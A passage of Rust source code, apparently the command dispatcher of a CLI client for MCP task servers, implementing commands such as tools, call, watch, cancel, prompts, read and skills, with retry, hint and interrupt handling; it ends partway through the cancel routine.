//! The commands: `tools`, `call`, `get`, `cancel`, `watch`, and beside tools `prompts`,
//! `prompt`, `resources`, `read` and `complete`, and of the Skills extension `skills`, `skill`
//! and `dir`.

use std::collections::BTreeMap;
use std::io::IsTerminal as _;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use futures_util::StreamExt as _;
use serde_json::Value;
use std::sync::Mutex;

use tasks_client::{
    Client, ClientError, CompletionRef, Execution, FailureKind, Listing, Outcome, RetryEvent,
    RetryNotice, SettleOptions, Skill, SkillFile, TaskCall, VerificationFailure, Wait,
};
use tasks_core::input::Root;
use tasks_core::TaskId;

use crate::exit::Exit;
use crate::interrupt::Interrupts;
use crate::prompt::Terminal;
use crate::status::{OutageNote, Status};
use crate::text::clean;
use crate::{args, output, Answers, Cli, Command, Follow};

/// How long `cancel` and Ctrl-C wait for the final status after sending `tasks/cancel`.
const CANCEL_WAIT: Duration = Duration::from_secs(30);

/// Shared flags of one run.
struct Run {
    json: bool,
    options: SettleOptions,
    status: Status,
    interrupts: Interrupts,
    /// What the retry hook saw while a task was followed.
    outage: Arc<Mutex<Outage>>,
}

/// What the watch told of the server's outages ([`RetryNotice`]).
#[derive(Debug, Default)]
struct Outage {
    /// The server was unreachable at some point of this run.
    seen: bool,
    /// The watch gave up on it (`--retry-for` passed).
    gave_up: bool,
}

/// The settle options of `--poll`, `--timeout` and `--retry-for`, the retry hook telling the
/// user of an outage on the status line and in `outage`; `Err` names a bad number.
fn follow_options(
    follow: Option<&Follow>,
    url: &str,
    status: &Status,
    outage: &Arc<Mutex<Outage>>,
) -> Result<SettleOptions, String> {
    let mut options = SettleOptions::default();
    let Some(follow) = follow else {
        return Ok(options);
    };
    if follow.poll {
        options = options.wait(Wait::Poll);
    }
    if let Some(seconds) = follow.timeout {
        let timeout = Duration::try_from_secs_f64(seconds)
            .map_err(|_| "--timeout must be a number of seconds".to_owned())?;
        options = options.deadline(timeout);
    }
    let retry_for = Duration::try_from_secs_f64(follow.retry_for)
        .map_err(|_| "--retry-for must be a number of seconds".to_owned())?;
    let (status, outage) = (status.clone(), outage.clone());
    let url = clean(&shown_url(url)).into_owned();
    Ok(options
        .retry_for(retry_for)
        .on_retry(move |notice| tell_retry(&status, &outage, &url, notice)))
}

/// `12 s`: a duration in whole seconds, rounded up (`0 s` only for zero).
fn whole_seconds(duration: Duration) -> String {
    let seconds = duration.as_secs() + u64::from(duration.subsec_nanos() > 0);
    format!("{seconds} s")
}

/// `unreachable`, or `unavailable (HTTP 503)`.
fn failure_text(kind: FailureKind) -> String {
    match kind {
        FailureKind::Unavailable { status } => format!("unavailable (HTTP {status})"),
        _ => "unreachable".to_owned(),
    }
}

/// The lines of an outage: one when it begins (with how long it is retried), one when the
/// server is back, one when the watch gives up; between them, the live line shows the outage
/// first, its seconds counting on each redraw, with the attempt.
fn tell_retry(status: &Status, outage: &Mutex<Outage>, url: &str, notice: &RetryNotice) {
    let mut seen = outage.lock().unwrap_or_else(|e| e.into_inner());
    seen.seen = true;
    let note = || OutageNote {
        failure: failure_text(notice.kind),
        since: std::time::Instant::now()
            .checked_sub(notice.elapsed)
            .unwrap_or_else(std::time::Instant::now),
        retry_for: notice.retry_for,
        attempt: notice.attempt + 1,
    };
    match notice.event {
        RetryEvent::Retrying { .. } if notice.attempt == 1 => {
            status.line(&format!(
                "server {} at {url}, retrying for up to {} (--retry-for; {})",
                failure_text(notice.kind),
                whole_seconds(notice.remaining()),
                clean(&notice.error)
            ));
            status.outage(Some(note()));
        }
        RetryEvent::Retrying { .. } => status.outage(Some(note())),
        RetryEvent::Recovered => {
            status.outage(None);
            status.line(&format!(
                "server back at {url} after {} ({} failed {})",
                whole_seconds(notice.elapsed),
                notice.attempt,
                if notice.attempt == 1 {
                    "attempt"
                } else {
                    "attempts"
                }
            ));
        }
        _ => {
            seen.gave_up = true;
            status.outage(None);
            status.line(&format!(
                "server still {} at {url} after {}: giving up (--retry-for {})",
                failure_text(notice.kind),
                whole_seconds(notice.elapsed),
                notice.retry_for.as_secs_f64()
            ));
        }
    }
}

pub(crate) async fn run(cli: Cli) -> Exit {
    let interrupts = match Interrupts::new() {
        Ok(interrupts) => interrupts,
        Err(error) => {
            crate::say!("error: cannot watch for Ctrl-C: {error}");
            return Exit::Unreachable;
        }
    };
    let status = Status::new();
    let outage = Arc::default();
    let options = match follow_options(cli.command.follow(), cli.command.url(), &status, &outage) {
        Ok(options) => options,
        Err(message) => {
            crate::say!("error: {message}");
            return Exit::Usage;
        }
    };
    let mut run = Run {
        json: cli.json,
        options,
        status,
        interrupts,
        outage,
    };
    let token = cli.token;
    match cli.command {
        Command::Admin {
            admin_token,
            action,
        } => crate::admin::run(action, admin_token, run.json).await,
        Command::Tools { url } => match connect(&url, token, None).await {
            Ok((client, _)) => match client.list_tools().await {
                Ok(tools) => {
                    output::tools(&tools, run.json);
                    Exit::Completed
                }
                Err(error) => Exit::report(&error),
            },
            Err(exit) => exit,
        },
        Command::Call {
            url,
            tool,
            pairs,
            args,
            answers,
            ..
        } => {
            let (client, terminal) =
                match connect(&url, token, Some((answers, &run.status, CALL_KEYS))).await {
                    Ok(connected) => connected,
                    Err(exit) => return exit,
                };
            run.call(&client, terminal, &tool, &pairs, args.as_deref())
                .await
        }
        Command::Get { url, task_id } => match task(&url, token, None, &task_id).await {
            Ok((task, _)) => match task.get().await {
                Ok(detailed) => {
                    output::task(&detailed, run.json);
                    Exit::Completed
                }
                Err(error) => {
                    let exit = Exit::report(&error);
                    if error.code() == Some(UNKNOWN_TASK) {
                        crate::say!("{}", unknown_task_hint(false));
                    }
                    exit
                }
            },
            Err(exit) => exit,
        },
        Command::Cancel { url, task_id, .. } => match task(&url, token, None, &task_id).await {
            Ok((task, _)) => run.cancel_command(&task).await,
            Err(exit) => exit,
        },
        Command::Prompts { url } => match connect(&url, token, None).await {
            Ok((client, _)) => match client.list_prompts().await {
                Ok(prompts) => {
                    output::prompts(&prompts.items, run.json);
                    Exit::Completed
                }
                Err(error) => Exit::report(&error),
            },
            Err(exit) => exit,
        },
        Command::Prompt {
            url,
            name,
            pairs,
            answers,
        } => {
            let (client, terminal) =
                match connect(&url, token, Some((answers, &run.status, PROMPT_KEYS))).await {
                    Ok(connected) => connected,
                    Err(exit) => return exit,
                };
            run.prompt(&client, terminal.as_ref(), &name, &pairs).await
        }
        Command::Resources { url } => match connect(&url, token, None).await {
            Ok((client, _)) => resources(&client, run.json).await,
            Err(exit) => exit,
        },
        Command::Read { url, uri, output } => match connect(&url, token, None).await {
            Ok((client, _)) => read(&client, &uri, output.as_deref(), run.json).await,
            Err(exit) => exit,
        },
        Command::Complete {
            url,
            prompt,
            resource,
            argument,
            value,
        } => {
            let reference = match (prompt, resource) {
                (Some(name), None) => CompletionRef::Prompt(name),
                (None, Some(uri)) => CompletionRef::Resource(uri),
                _ => {
                    crate::say!("error: give one of --prompt NAME and --resource URI_TEMPLATE");
                    return Exit::Usage;
                }
            };
            match connect(&url, token, None).await {
                Ok((client, _)) => complete(&client, &reference, &argument, &value, run.json).await,
                Err(exit) => exit,
            }
        }
        Command::Skills { url } => match connect(&url, token, None).await {
            Ok((client, _)) => match client.list_skills().await {
                Ok(skills) => {
                    output::skills(&skills.items, run.json);
                    Exit::Completed
                }
                Err(error) => Exit::report(&error),
            },
            Err(exit) => exit,
        },
        Command::Skill {
            url,
            uri,
            read,
            output,
        } => match connect(&url, token, None).await {
            Ok((client, _)) => {
                skill(&client, &uri, read.as_deref(), output.as_deref(), run.json).await
            }
            Err(exit) => exit,
        },
        Command::Dir { url, uri } => match connect(&url, token, None).await {
            Ok((client, _)) => dir(&client, &uri, run.json).await,
            Err(exit) => exit,
        },
        Command::Watch {
            url,
            task_id,
            answers,
            ..
        } => {
            let status = run.status.clone();
            match task(&url, token, Some((answers, &status, WATCH_KEYS)), &task_id).await {
                Ok((task, terminal)) => run.watch(&task, terminal).await,
                Err(exit) => exit,
            }
        }
    }
}

/// The JSON-RPC code of `tasks/get` for a task the server does not know (SEP-2663 "Error
/// Handling": unknown, expired or another caller's).
const UNKNOWN_TASK: i64 = -32602;

/// Why a task the server knew may be unknown now; `outage`: the server was unreachable while
/// the task was followed (so it restarted, most likely).
fn unknown_task_hint(outage: bool) -> &'static str {
    if outage {
        "hint: the server was unreachable while the task ran and no longer knows it: a server \
         that keeps its tasks in memory (such as tasks-fixture without --store) loses them when \
         it restarts"
    } else {
        "hint: a task is unknown once its TTL ran out, to another caller, or after a restart of \
         a server that keeps its tasks in memory (such as tasks-fixture without --store)"
    }
}

/// The help line under a question in `call` (Ctrl-C cancels the task) and `watch` (it stops
/// watching).
const CALL_KEYS: &str = "Esc declines · Ctrl-C cancels the task";
const WATCH_KEYS: &str = "Esc declines · Ctrl-C stops watching";
/// The help line under a question a prompt asks (`prompt`: nothing runs on the server).
const PROMPT_KEYS: &str = "Esc declines · Ctrl-C quits";

/// `resources`: the resources, then the templates (none when the server has no
/// `resources/templates/list`).
async fn resources(client: &Client, json: bool) -> Exit {
    let resources = match client.list_resources().await {
        Ok(resources) => resources,
        Err(error) => return Exit::report(&error),
    };
    let templates = match client.list_resource_templates().await {
        Ok(templates) => templates,
        Err(ClientError::MethodNotFound { .. }) => Listing::default(),
        Err(error) => return Exit::report(&error),
    };
    output::resources(&resources.items, &templates.items, json);
    Exit::Completed
}

/// `complete`: prints the suggestions (on stderr, that there are none, or how many more there
/// are). A prompt's argument the server does not know is named with the ones it takes.
async fn complete(
    client: &Client,
    reference: &CompletionRef,
    argument: &str,
    value: &str,
    json: bool,
) -> Exit {
    let completion = match client.complete(reference, argument, value).await {
        Ok(completion) => completion,
        Err(error) => {
            if let (CompletionRef::Prompt(name), Some(-32602)) = (reference, error.code()) {
                if let Some(exit) = unknown_prompt_argument(client, name, argument).await {
                    return exit;
                }
            }
            return Exit::report(&error);
        }
    };
    output::completion(&completion, json);
    if json {
        return Exit::Completed;
    }
    let total = completion.total.unwrap_or(0);
    if completion.values.is_empty() {
        crate::say!(
            "(no suggestions for {} starting with {:?})",
            clean(argument),
            clean(value)
        );
    } else if completion.has_more || total > completion.values.len() as u64 {
        crate::say!(
            "({} of {} values shown; type more to narrow them)",
            completion.values.len(),
            completion
                .total
                .map_or_else(|| "more".to_owned(), |t| t.to_string())
        );
    }
    Exit::Completed
}

/// After a -32602 to completing `argument` of prompt `name`: when the listing shows the
/// prompt does not exist or has no such argument, says so, naming the arguments it takes
/// (a usage error); `None` when the listing does not explain the refusal.
async fn unknown_prompt_argument(client: &Client, name: &str, argument: &str) -> Option<Exit> {
    let prompts = client.list_prompts().await.ok()?.items;
    let url = shell_words::quote(&shown_url(client.url())).into_owned();
    let Some(prompt) = prompts.iter().find(|p| p.name == name) else {
        crate::say!(
            "error: the server has no prompt named {:?} (`{} prompts {}` lists them)",
            clean(name),
            clean(program()),
            clean(&url)
        );
        return Some(Exit::Usage);
    };
    if prompt.arguments.iter().any(|a| a.name == argument) {
        return None;
    }
    let names: Vec<String> = prompt
        .arguments
        .iter()
        .map(|a| clean(&a.name).into_owned())
        .collect();
    let takes = if names.is_empty() {
        "it takes none".to_owned()
    } else {
        format!("it takes {}", names.join(", "))
    };
    crate::say!(
        "error: the prompt {:?} has no argument {:?}: {takes}",
        clean(name),
        clean(argument)
    );
    Some(Exit::Usage)
}

/// `read`: prints the contents, or writes their bytes to `file` (one item after another).
async fn read(client: &Client, uri: &str, file: Option<&std::path::Path>, json: bool) -> Exit {
    let result = match client.read_resource(uri).await {
        Ok(result) => result,
        Err(error) => return Exit::report(&error),
    };
    let Some(file) = file else {
        output::read(&result, json);
        return Exit::Completed;
    };
    let bytes: Vec<u8> = result
        .contents
        .iter()
        .flat_map(|contents| contents.bytes().iter().copied())
        .collect();
    let types: Vec<&str> = result
        .contents
        .iter()
        .map(|c| c.mime_type.as_deref().unwrap_or("type unknown"))
        .collect();
    write_file(file, &bytes, &types.join(", "))
}

/// Writes `bytes` (of MIME types `types`) to `file` and says so on stderr; a file that cannot
/// be written is a usage error. `-` is stdout: the bytes as they are, nothing said (a closed
/// stdout ends quietly, as the printed output does). `--json` does not apply.
fn write_file(file: &std::path::Path, bytes: &[u8], types: &str) -> Exit {
    if file.as_os_str() == "-" {
        use std::io::Write as _;
        let mut stdout = std::io::stdout().lock();
        return match stdout.write_all(bytes).and_then(|()| stdout.flush()) {
            Err(error) if error.kind() != std::io::ErrorKind::BrokenPipe => {
                crate::say!("error: cannot write to stdout: {error}");
                Exit::Usage
            }
            _ => Exit::Completed,
        };
    }
    if let Err(error) = std::fs::write(file, bytes) {
        crate::say!("error: cannot write {}: {error}", file.display());
        return Exit::Usage;
    }
    crate::say!(
        "Wrote {} bytes ({}) to {}",
        bytes.len(),
        clean(types),
        file.display()
    );
    Exit::Completed
}

/// `skill`: the skill's entry; with `file`, that file read and verified against the entry
/// (printed, or its bytes written to `output`). A file the entry does not list is a usage
/// error naming the files it lists; a file that fails verification is [`Exit::Unverified`]
/// and nothing of it is shown; a dynamic skill's file is shown with a warning that it is
/// unverified.
async fn skill(
    client: &Client,
    uri: &str,
    file: Option<&str>,
    output: Option<&std::path::Path>,
    json: bool,
) -> Exit {
    let (skill, ttl_ms) = match client.get_skill(uri).await {
        Ok(result) => (result.skill, result.caching.ttl_ms),
        Err(error) => {
            let exit = Exit::report(&error);
            if error.code() == Some(INVALID_PARAMS) {
                if let Ok(skills) = client.list_skills().await {
                    let url = shell_words::quote(&shown_url(client.url())).into_owned();
                    crate::say!(
                        "{}",
                        clean(&unknown_skill_hint(
                            &guess_skill(&skills.items, uri),
                            program(),
                            &url
                        ))
                    );
                }
            }
            return exit;
        }
    };
    let Some(file) = file else {
        output::skill(&skill, json);
        return Exit::Completed;
    };
    let file_uri = skill.file_uri(file);
    if let Some(files) = skill.files() {
        if skill.file(&file_uri).is_none() {
            let paths: Vec<String> = files
                .iter()
                .map(|f| clean(output::skill_path(&skill, &f.uri)).into_owned())
                .collect();
            crate::say!(
                "error: the skill {} lists no file {} (it lists {})",
                clean(uri),
                clean(&file_uri),
                paths.join(", ")
            );
            return Exit::Usage;
        }
    }
    let read = match client.read_skill_file(&skill, &file_uri).await {
        Ok(read) => read,
        Err(error) => {
            let exit = Exit::report(&error);
            if let ClientError::Verification {
                failure:
                    VerificationFailure::Size { .. }
                    | VerificationFailure::Digest { .. }
                    | VerificationFailure::Frontmatter { .. },
                ..
            } = error
            {
                let url = shell_words::quote(&shown_url(client.url())).into_owned();
                crate::say!(
                    "{}",
                    clean(&changed_skill_hint(program(), &url, uri, ttl_ms))
                );
            }
            return exit;
        }
    };
    if let SkillFile::Unverified(_) = &read {
        crate::say!(
            "warning: the skill {} lists its files as dynamic: {} is not verified",
            clean(uri),
            clean(&file_uri)
        );
    }
    let contents = read.contents();
    match output {
        Some(path) => write_file(
            path,
            contents.bytes(),
            contents.mime_type.as_deref().unwrap_or("type unknown"),
        ),
        None => {
            output::skill_file(&read, json);
            Exit::Completed
        }
    }
}

/// The JSON-RPC code of a refused parameter: `skills/get` of a URI that is no skill's
/// `SKILL.md` (`Skill not found`), `resources/directory/read` of a URI that is no directory
/// (`Not a directory resource`).
const INVALID_PARAMS: i64 = -32602;

/// What a URI `skills/get` refused may have meant, by the server's skill list.
#[derive(Debug, PartialEq)]
enum SkillGuess<'a> {
    /// The skills whose directory it is (with or without a trailing `/`), or whose name or
    /// last path segment it is (a bare name, `report-writing`).
    Skills(Vec<&'a Skill>),
    /// A file of this skill, at this path below the skill's directory.
    FileOf(&'a Skill, &'a str),
    /// Nothing listed.
    Nothing,
}

/// [`SkillGuess`] of `asked` among `skills`.
fn guess_skill<'a>(skills: &'a [Skill], asked: &'a str) -> SkillGuess<'a> {
    if let Some(skill) = skills.iter().find(|s| is_file_of(s, asked)) {
        return SkillGuess::FileOf(skill, output::skill_path(skill, asked));
    }
    let directory = asked.strip_suffix('/').unwrap_or(asked);
    let bare = (!asked.contains("://")).then(|| asked.trim_matches('/'));
    let matches: Vec<&Skill> = skills
        .iter()
        .filter(|skill| {
            let root = skill.root_uri();
            root == directory
                || bare.is_some_and(|name| {
                    !name.is_empty()
                        && (skill.name() == Some(name)
                            || root.strip_prefix("skill://") == Some(name)
                            || root.ends_with(&format!("/{name}")))
                })
        })
        .collect();
    if matches.is_empty() {
        SkillGuess::Nothing
    } else {
        SkillGuess::Skills(matches)
    }
}

/// Whether `uri` is a file of `skill` other than its `SKILL.md`: one its entry lists, or for
/// a skill whose files are `"dynamic"`, a URI below its directory.
fn is_file_of(skill: &Skill, uri: &str) -> bool {
    if uri == skill.uri {
        return false;
    }
    match skill.files() {
        Some(_) => skill.file(uri).is_some(),
        None => uri
            .strip_prefix(skill.root_uri())
            .is_some_and(|rest| rest.len() > 1 && rest.starts_with('/')),
    }
}

/// The hint after `skills/get` refused a URI, by what it may have meant ([`guess_skill`]);
/// `program` and `url` as the user ran them (`url` shell-quoted).
fn unknown_skill_hint(guess: &SkillGuess<'_>, program: &str, url: &str) -> String {
    match guess {
        SkillGuess::Skills(skills) if skills.len() == 1 => {
            format!("hint: did you mean {}?", skills[0].uri)
        }
        SkillGuess::Skills(skills) => format!(
            "hint: did you mean one of {}?",
            skills
                .iter()
                .map(|s| s.uri.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        ),
        SkillGuess::FileOf(skill, path) => format!(
            "hint: that is a file of skill {}; read it with `{program} skill {url} {} --read {}`",
            skill.uri,
            shell_words::quote(&skill.uri),
            shell_words::quote(path)
        ),
        SkillGuess::Nothing => format!("hint: `{program} skills {url}` lists the server's skills"),
    }
}

/// The hint after a skill's file failed verification: the skill may have changed since its
/// entry was made, and `skill` again fetches the current one; `ttl_ms` is the entry's
/// `ttlMs`, if it had one.
fn changed_skill_hint(program: &str, url: &str, uri: &str, ttl_ms: Option<u64>) -> String {
    let cached = match ttl_ms {
        Some(ms) => format!(
            "a server may cache an entry for its ttlMs, {} for this one",
            whole_seconds(Duration::from_millis(ms))
        ),
        None => "a server may cache an entry for its ttlMs".to_owned(),
    };
    format!(
        "hint: the skill may have changed on the server since its entry was fetched ({cached}); \
         running `{program} skill {url} {}` again fetches the current entry",
        shell_words::quote(uri)
    )
}

/// The URI `dir` sends: `uri` without one trailing `/` (a directory's URI never ends in `/`),
/// unless nothing but the scheme would be left (`skill://`).
fn directory_uri(uri: &str) -> &str {
    match uri.strip_suffix('/') {
        Some(stripped) if !stripped.ends_with(":/") && !stripped.ends_with("://") => stripped,
        _ => uri,
    }
}

/// `dir`: the directory's entries. A refused URI that is only a scheme (`skill://`) or a file
/// gets a hint (`skills`; `read`, or `skill … --read` for a skill's file).
async fn dir(client: &Client, uri: &str, json: bool) -> Exit {
    let uri = directory_uri(uri);
    let error = match client.read_directory(uri).await {
        Ok(listing) => {
            output::directory(&listing.items, json);
            return Exit::Completed;
        }
        Err(error) => error,
    };
    let exit = Exit::report(&error);
    if error.code() != Some(INVALID_PARAMS) {
        return exit;
    }
    let url = shell_words::quote(&shown_url(client.url())).into_owned();
    let program = program();
    let scheme_only = uri
        .split_once("://")
        .is_some_and(|(_, rest)| rest.trim_matches('/').is_empty());
    let hint = if scheme_only {
        Some(format!(
            "hint: {uri} is no directory: `{program} skills {url}` lists the skills, and `dir` \
             takes the directory of one (its URI without /SKILL.md)"
        ))
    } else {
        let skills = client
            .list_skills()
            .await
            .map(|s| s.items)
            .unwrap_or_default();
        let read = format!(
            "`{program} read {url} {}` reads it",
            shell_words::quote(uri)
        );
        match skills.iter().find(|s| s.uri == uri || is_file_of(s, uri)) {
            Some(skill) => Some(format!(
                "hint: it is a file: {read}; `{program} skill {url} {} --read {}` reads it \
                 verified against its skill's entry",
                shell_words::quote(&skill.uri),
                shell_words::quote(output::skill_path(skill, uri))
            )),
            None if is_listed_file(client, uri).await => {
                Some(format!("hint: it is a file: {read}"))
            }
            None => None,
        }
    };
    if let Some(hint) = hint {
        crate::say!("{}", clean(&hint));
    }
    exit
}

/// Whether the directory above `uri` lists it as a file.
async fn is_listed_file(client: &Client, uri: &str) -> bool {
    let Some((parent, _)) = uri.rsplit_once('/') else {
        return false;
    };
    if parent.ends_with(":/") {
        return false;
    }
    client.read_directory(parent).await.is_ok_and(|listing| {
        listing
            .items
            .iter()
            .any(|entry| entry.uri == uri && !entry.is_directory())
    })
}

/// What the input handler needs: the `--answer`/`--root` options, the status line, the help
/// line.
type Input<'a> = (Answers, &'a Status, &'static str);

/// The input handler from `--answer`/`--root` and whether stdin is a terminal.
fn terminal((answers, status, keys): Input<'_>) -> Result<Terminal, Exit> {
    let mut parsed = BTreeMap::new();
    for answer in answers.answers {
        let Some((key, json)) = answer.split_once('=') else {
            crate::say!("error: --answer {answer:?}: write KEY=JSON");
            return Err(Exit::Usage);
        };
        let Ok(value) = serde_json::from_str::<Value>(json) else {
            crate::say!("error: --answer {key}: not JSON: {json}");
            return Err(Exit::Usage);
        };
        parsed.insert(key.to_owned(), value);
    }
    let roots = answers
        .roots
        .into_iter()
        .map(|uri| Root { uri, name: None })
        .collect();
    crate::prompt::mark_declines();
    Ok(Terminal {
        interactive: std::io::stdin().is_terminal(),
        answers: parsed,
        roots,
        status: status.clone(),
        keys,
        interrupted: Arc::new(AtomicBool::new(false)),
    })
}

/// A client of `url` (checked with `server/discover`), with the terminal's input handler.
async fn connect(
    url: &str,
    token: Option<String>,
    input: Option<Input<'_>>,
) -> Result<(Client, Option<Terminal>), Exit> {
    if let Some(suggested) = with_scheme(url) {
        crate::say!(
            "error: {:?} is not a URL: it has no scheme",
            clean(&shown_url(url))
        );
        crate::say!("hint: did you mean {}?", clean(&shown_url(&suggested)));
        return Err(Exit::Usage);
    }
    let mut builder = Client::builder(url).client_info("mcp-tasks", env!("CARGO_PKG_VERSION"));
    if let Some(token) = token {
        builder = builder.bearer(token);
    }
    let terminal = match input {
        Some(input) => Some(terminal(input)?),
        None => None,
    };
    if let Some(terminal) = &terminal {
        builder = builder.input_handler(terminal.clone());
    }
    match builder.connect().await {
        Ok(client) => Ok((client, terminal)),
        Err(error) => {
            let exit = Exit::report(&error);
            if let Some(suggested) = error.endpoint_hint().and_then(|path| with_path(url, path)) {
                crate::say!(
                    "hint: the server's MCP endpoint is {}",
                    shown_url(&suggested)
                );
            }
            Err(exit)
        }
    }
}

/// For a URL written without its scheme (`127.0.0.1:3000/mcp`, `localhost:3000/mcp`), the
/// URL with `http://`; `None` for a URL with a scheme.
fn with_scheme(url: &str) -> Option<String> {
    if url.contains("://") || url.trim().is_empty() {
        return None;
    }
    let suggested = format!("http://{url}");
    reqwest::Url::parse(&suggested)
        .ok()
        .filter(|u| u.host().is_some())
        .map(|_| suggested)
}

/// `url` with its path replaced by `path` (no query or fragment).
fn with_path(url: &str, path: &str) -> Option<String> {
    let mut url = reqwest::Url::parse(url).ok()?;
    url.set_path(path);
    url.set_query(None);
    url.set_fragment(None);
    Some(url.into())
}

async fn task(
    url: &str,
    token: Option<String>,
    input: Option<Input<'_>>,
    task_id: &str,
) -> Result<(TaskCall, Option<Terminal>), Exit> {
    let Ok(id) = TaskId::parse(task_id) else {
        crate::say!("error: {task_id:?} is not a task id");
        return Err(Exit::Usage);
    };
    let (client, terminal) = connect(url, token, input).await?;
    Ok((client.task(id), terminal))
}

fn interrupted(terminal: Option<&Terminal>) -> bool {
    terminal.is_some_and(|t| t.interrupted.load(Ordering::SeqCst))
}

impl Run {
    fn finish(&self, outcome: &Outcome) -> Exit {
        self.status.finish();
        match outcome {
            Outcome::Completed(result) | Outcome::ToolError(result) => {
                output::result(result, self.json);
            }
            Outcome::Failed(error) => {
                crate::say!(
                    "The task failed: {} ({})",
                    clean(&error.message),
                    error.code
                );
            }
            _ => crate::say!("The task was cancelled."),
        }
        Exit::of(outcome)
    }

    async fn call(
        &mut self,
        client: &Client,
        terminal: Option<Terminal>,
        tool: &str,
        pairs: &[String],
        base: Option<&str>,
    ) -> Exit {
        let tools = match client.list_tools().await {
            Ok(tools) => tools,
            Err(error) => return Exit::report(&error),
        };
        let Some(entry) = tools.iter().find(|t| t.name == tool) else {
            crate::say!(
                "error: the server has no tool named {:?} (`{} tools {}` lists them)",
                clean(tool),
                clean(program()),
                shell_words::quote(&shown_url(client.url()))
            );
            return Exit::Usage;
        };
        let arguments = match args::arguments(base, pairs, &entry.input_schema) {
            Ok(arguments) => arguments,
            Err(message) => {
                crate::say!("error: {message}");
                return Exit::Usage;
            }
        };
        // From here a Ctrl-C is remembered: the task the server may create is then cancelled
        // at once (before, it just ends the program: nothing was sent).
        self.interrupts.arm();
        let mut pressed = false;
        let call = client.call_tool(tool, arguments);
        tokio::pin!(call);
        let execution = loop {
            tokio::select! {
                execution = &mut call => break execution,
                () = self.interrupts.next(), if !pressed => {
                    pressed = true;
                    crate::say!("Interrupted: waiting for the server's answer to cancel what it started…");
                }
            }
        };
        let execution = match execution {
            Ok(execution) => execution,
            Err(_) if interrupted(terminal.as_ref()) => {
                crate::say!("Cancelled at the prompt.");
                return Exit::Cancelled;
            }
            Err(error) => return Exit::report(&error),
        };
        match execution {
            Execution::Complete(result) => self.finish(&Outcome::of_result(result.into_object())),
            Execution::Task(task) => {
                crate::say!(
                    "Task {} created (Ctrl-C cancels it)",
                    clean(task.id().as_str())
                );
                self.status.start(task.id());
                if pressed {
                    return self.cancel(&task).await;
                }
                self.follow(&task, terminal.as_ref(), true).await
            }
            _ => Exit::Unreachable,
        }
    }

    /// `prompt`: checks the arguments against the prompt's listing, gets it (a question it
    /// asks answered by `--answer` or at the prompt) and prints its messages.
    async fn prompt(
        &self,
        client: &Client,
        terminal: Option<&Terminal>,
        name: &str,
        pairs: &[String],
    ) -> Exit {
        let prompts = match client.list_prompts().await {
            Ok(prompts) => prompts.items,
            Err(error) => return Exit::report(&error),
        };
        let Some(entry) = prompts.iter().find(|p| p.name == name) else {
            crate::say!(
                "error: the server has no prompt named {:?} (`{} prompts {}` lists them)",
                clean(name),
                clean(program()),
                shell_words::quote(&shown_url(client.url()))
            );
            return Exit::Usage;
        };
        let names: Vec<(&str, bool)> = entry
            .arguments
            .iter()
            .map(|a| (a.name.as_str(), a.required))
            .collect();
        let arguments = match args::prompt_arguments(pairs, &names) {
            Ok(arguments) => arguments,
            Err(message) => {
                crate::say!("error: {}", clean(&message));
                return Exit::Usage;
            }
        };
        match client.get_prompt(name, arguments).await {
            Ok(result) => {
                output::prompt(&result, self.json);
                Exit::Completed
            }
            Err(_) if interrupted(terminal) => {
                crate::say!("Interrupted at the prompt.");
                Exit::Interrupted
            }
            Err(error) => Exit::report(&error),
        }
    }

    /// Settles `task`, showing each change; Ctrl-C cancels it (`cancel_on_interrupt`) or stops
    /// watching.
    async fn follow(
        &mut self,
        task: &TaskCall,
        terminal: Option<&Terminal>,
        cancel_on_interrupt: bool,
    ) -> Exit {
        let status = self.status.clone();
        let settled = {
            let settle = task.settle_with(&self.options, |t| status.update(t));
            tokio::pin!(settle);
            tokio::select! {
                settled = &mut settle => Some(settled),
                () = self.interrupts.next() => None,
            }
        };
        match settled {
            Some(Ok(outcome)) => self.finish(&outcome),
            Some(Err(_)) if interrupted(terminal) && cancel_on_interrupt => self.cancel(task).await,
            Some(Err(_)) if interrupted(terminal) => self.stop_watching(task),
            Some(Err(error)) => {
                self.status.finish();
                let outage = {
                    let outage = self.outage.lock().unwrap_or_else(|e| e.into_inner());
                    (outage.seen, outage.gave_up)
                };
                let mut exit = Exit::report(&error);
                if outage.1 && error.is_retryable() {
                    // Gave up after --retry-for: unreachable, whatever the last failure was.
                    exit = Exit::Unreachable;
                }
                if matches!(error, ClientError::UnknownTask { .. }) {
                    crate::say!("{}", unknown_task_hint(outage.0));
                }
                // A bad --answer (usage) leaves the task waiting for input too.
                if matches!(
                    exit,
                    Exit::InputNeeded | Exit::Usage | Exit::Timeout | Exit::Unreachable
                ) {
                    still_there(task);
                }
                exit
            }
            None if cancel_on_interrupt => self.cancel(task).await,
            None => self.stop_watching(task),
        }
    }

    fn stop_watching(&self, task: &TaskCall) -> Exit {
        self.status.finish();
        crate::say!(
            "Stopped watching; the task {} keeps running.",
            clean(task.id().as_str())
        );
        Exit::Interrupted
    }

    /// `cancel`: a task that already ended is said to have (cancelled before, or finished);
    /// else as [`Run::cancel`].
    async fn cancel_command(&mut self, task: &TaskCall) -> Exit {
        let ended = match task.get().await {
            Ok(detailed) => Outcome::of_state(&detailed.state),
            // The cancel reports it (an unknown task, say).
            Err(_) => None,
        };
        match ended {
            Some(Outcome::Cancelled) => {
                crate::say!(
                    "The task {} was already cancelled; nothing was sent.",
                    clean(task.id().as_str())
                );
                Exit::Cancelled
            }
            Some(outcome) => {
                crate::say!(
                    "The task {} had already finished; nothing was sent.",
                    clean(task.id().as_str())
                );
                self.finish(&outcome)
            }
            None => self.cancel(task).await,
        }
    }

    /// Sends `tasks/cancel` and waits for the final status (a second Ctrl-C stops waiting).
    async fn cancel(&mut self, task: &TaskCall) -> Exit {
        self.status.note("cancelling…");
        if let Err(error) = task.cancel().await {
            self.status.finish();
            return Exit::report(&error);
        }
        let options = self.options.clone().deadline(CANCEL_WAIT);
        let status = self.status.clone();
        let mut updates = Box::pin(task.updates(&options));
        let last = loop {
            tokio::select! {
                update = updates.next() => match update {
                    Some(Ok(update)) => {
                        status.update(&update);
                        if let Some(outcome) = Outcome::of_state(&update.state) {
                            break Ok(outcome);
                        }
                    }
                    Some(Err(error)) => break Err(error),
                    None => break Err(ClientError::Deadline),
                },
                () = self.interrupts.next() => {
                    self.status.finish();
                    crate::say!("Stopped waiting; the cancel of task {} was sent.", clean(task.id().as_str()));
                    return Exit::Interrupted;
                }
            }
        };
        match last {
            Ok(Outcome::Cancelled) => {
                self.status.finish();
